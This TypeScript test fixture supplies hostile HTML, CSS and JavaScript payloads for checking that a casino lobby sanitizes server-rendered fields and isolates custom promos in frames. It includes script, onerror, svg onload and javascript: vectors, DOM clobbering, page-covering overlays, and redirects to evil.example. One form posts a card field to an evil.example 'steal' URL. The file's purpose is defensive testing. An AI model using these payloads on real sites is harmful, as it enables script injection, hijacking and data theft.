/**
 * Hostile server HTML, seeded into every HTML field the lobby renders, so that its sanitizing is
 * tested against the real controller. Each payload tries one way to act; a page that renders it
 * safely shows only text. `window.__lobbyHostile` set by any of them means one ran.
 */
export const HOSTILE_MARK = '__lobbyHostile';

const mark = (what: string) => `window.${HOSTILE_MARK}=(window.${HOSTILE_MARK}||[]).concat('${what}')`;

/** One of every kind, for a field that should show its text only. */
export function hostileHtml(field: string): string {
  return [
    `<p class="hostile-text">Offer details for ${field}.</p>`,
    `<script>${mark(`${field}:script`)}</script>`,
    `<img src="/assets/missing.png" alt="" onerror="${mark(`${field}:onerror`)}">`,
    `<svg onload="${mark(`${field}:svg`)}"><circle r="1"/></svg>`,
    `<a href="javascript:${mark(`${field}:href`)}">Claim now</a>`,
    `<form action="https://evil.example/steal" method="post"><input name="card" value="1"><button>Send</button></form>`,
    `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
    `<base href="https://evil.example/">`,
    `<a id="location" name="location" href="https://evil.example/">clobber</a>`,
    `<div style="position:fixed;inset:0;z-index:2147483647;background:#c00" data-hostile-overlay="inline">overlay</div>`,
    `<iframe src="https://evil.example/"></iframe>`,
  ].join('');
}

/** CSS that tries to cover the whole page from a custom promo. */
export const HOSTILE_CSS = [
  '.promo-takeover{position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:rgba(200,0,0,.9)}',
  'body{display:none}',
  '@import url("https://evil.example/x.css");',
  '.promo-custom-title{color:#b3005a;font-weight:700}',
].join('\n');

/** What the scripted custom promo's own script shows when it runs (inside its frame). */
export const PROMO_SCRIPT_NOTE = 'Unlocked by the promo script';

/**
 * CSS of the custom promo that has a script. It runs in a frame of its own, so it cannot reach the
 * page at all; it tries to grow the frame beyond any sensible height instead.
 */
export const HOSTILE_FRAME_CSS = [
  '.promo-takeover{min-height:5000px}',
  '.promo-custom-title{color:#b3005a;font-weight:700}',
  '.promo-js-note{margin:0 0 1rem;font-weight:700}',
].join('\n');

/**
 * JS of a custom promo: it tries to reach the page that embeds it, its cookies and the casino's
 * controller, then shows that it ran by a line of its own at the top of the promo.
 */
export const HOSTILE_JS = [
  `try { window.parent.${HOSTILE_MARK} = ['custom-js:parent']; } catch (e) {}`,
  `try { window.top.location.href = 'https://evil.example/'; } catch (e) {}`,
  `try { window.parent.document.body.innerHTML = 'taken'; } catch (e) {}`,
  `try { document.cookie = 'stolen=1'; } catch (e) {}`,
  `try { localStorage.setItem('stolen', '1'); } catch (e) {}`,
  `try { fetch('/app/shared/controllers/LobbyController.php?getpromos').catch(() => {}); } catch (e) {}`,
  `document.body.setAttribute('data-promo-js', 'ran');`,
  `const note = document.createElement('p');`,
  `note.className = 'promo-js-note';`,
  `note.textContent = '${PROMO_SCRIPT_NOTE}';`,
  `document.body.prepend(note);`,
].join('\n');
